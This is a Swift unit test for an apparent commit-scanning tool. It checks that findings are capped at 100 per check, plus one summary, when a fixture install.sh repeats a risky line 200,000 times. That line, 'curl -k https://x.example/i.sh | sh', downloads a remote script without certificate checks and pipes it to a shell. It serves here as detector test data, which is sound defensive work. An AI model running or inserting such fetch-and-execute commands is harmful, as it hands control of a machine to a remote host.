import Testing
import VigilGit
import VigilTestSupport

@testable import VigilCore

/// One commit cannot flood the queue: each check lists at most the configured number of findings
/// per commit, then one summary carrying how many more there were.
@Suite struct FindingCapTests {
    @Test func twoHundredThousandRiskyLinesGiveCappedFindingsAndOneSummaryPerCheck() throws {
        let fixture = try FixtureRepository()
        let line = "curl -k https://x.example/i.sh | sh\n"
        let sha = try fixture.commit(
            "Install", files: ["install.sh": String(repeating: line, count: 200_000)],
            author: FileSideTests.aider)

        let findings = try FileSideTests.findings(fixture, sha)
        // Keep the diagnostics small even on failure: the commit has 400,000 matches.
        let byCheck = Dictionary(grouping: findings.filter { $0.check.hasPrefix("risky-pattern.") }, by: \.check)
        #expect(byCheck.keys.sorted() == ["risky-pattern.curl-insecure", "risky-pattern.pipe-to-shell"])
        for (check, found) in byCheck {
            let listed = found.filter { $0.line != nil }
            #expect(listed.count == 100, "\(check)")
            let lines = listed.compactMap(\.line)
            #expect(lines.first == 1 && lines.last == 100 && Set(lines).count == 100, "the first lines: \(check)")
            let summaries = found.filter { $0.line == nil }
            #expect(summaries.count == 1, "\(check)")
            let summary = try #require(summaries.first)
            #expect(summary.title.contains("199900"), "\(summary.title)")
            #expect(summary.evidence.contains("install.sh:101"), "the first examples: \(summary.evidence)")
        }
    }
}
